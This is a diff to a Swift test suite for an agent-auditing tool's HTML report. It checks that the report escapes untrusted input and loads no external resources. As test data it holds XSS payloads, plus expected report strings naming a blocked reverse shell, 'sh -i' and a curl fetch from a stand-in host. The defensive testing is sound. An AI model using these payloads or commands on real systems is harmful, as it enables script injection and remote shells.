@@ -1,6 +1,7 @@
 import CordonGate
 import CordonPolicy
 import Testing
+
 @testable import CordonAudit
 
 @Suite("the HTML report")
@@ -17,7 +18,9 @@ struct ReportTests {
         let h = try sampleHTML()
         #expect(h.hasPrefix("<!DOCTYPE html>"))
         #expect(!h.contains("<script"))
-        #expect(!h.contains("src=\"http") && !h.contains("href=\"http") && !h.contains("url(http") && !h.contains("@import"))
+        #expect(
+            !h.contains("src=\"http") && !h.contains("href=\"http") && !h.contains("url(http") && !h.contains("@import")
+        )
         #expect(h.contains("<svg class=\"timeline\""))
     }
 
@@ -25,7 +28,8 @@ struct ReportTests {
     func content() throws {
         let h = try sampleHTML()
         for needle in [
-            "ci-agent", "policies/agent.yaml", String(repeating: "ab", count: 32), "<span class=\"chip\">landlock</span>",
+            "ci-agent", "policies/agent.yaml", String(repeating: "ab", count: 32),
+            "<span class=\"chip\">landlock</span>",
             "exit code none, signal 9, cordon exited 124", "reverse-shell", "interactive shell from a pipe",
             "<code>sh -i</code>", "pid 101", "curl http://203.0.113.7/x",
         ] {
@@ -38,11 +42,17 @@ struct ReportTests {
         let dir = makeTempDir()
         defer { removeTree(dir) }
         let rec = try RunRecorder(directory: LogDirectory(path: dir))
-        try rec.start(RunStart(policy: PolicySource(path: "p", sha256: ""), agent: "<b>x</b>", command: ["echo", "<script>alert(1)</script>"], cwd: "/w", isolation: []))
+        try rec.start(
+            RunStart(
+                policy: PolicySource(path: "p", sha256: ""), agent: "<b>x</b>",
+                command: ["echo", "<script>alert(1)</script>"], cwd: "/w", isolation: []))
         let a = Action(id: "a-1", payload: .shell("echo '<img src=x onerror=alert(1)>'"))
-        try rec.record(Decision(actionId: "a-1", decision: .block, score: 90, policyRule: "r\"<", reasons: ["<i>"], findings: []), for: a)
+        try rec.record(
+            Decision(actionId: "a-1", decision: .block, score: 90, policyRule: "r\"<", reasons: ["<i>"], findings: []),
+            for: a)
         let h = RunReport.html(try TraceReader.read(rec.tracePath))
-        #expect(!h.contains("<script>alert") && !h.contains("<img src=x") && !h.contains("<b>x</b>") && !h.contains("<i>"))
+        #expect(
+            !h.contains("<script>alert") && !h.contains("<img src=x") && !h.contains("<b>x</b>") && !h.contains("<i>"))
         #expect(h.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
     }
 
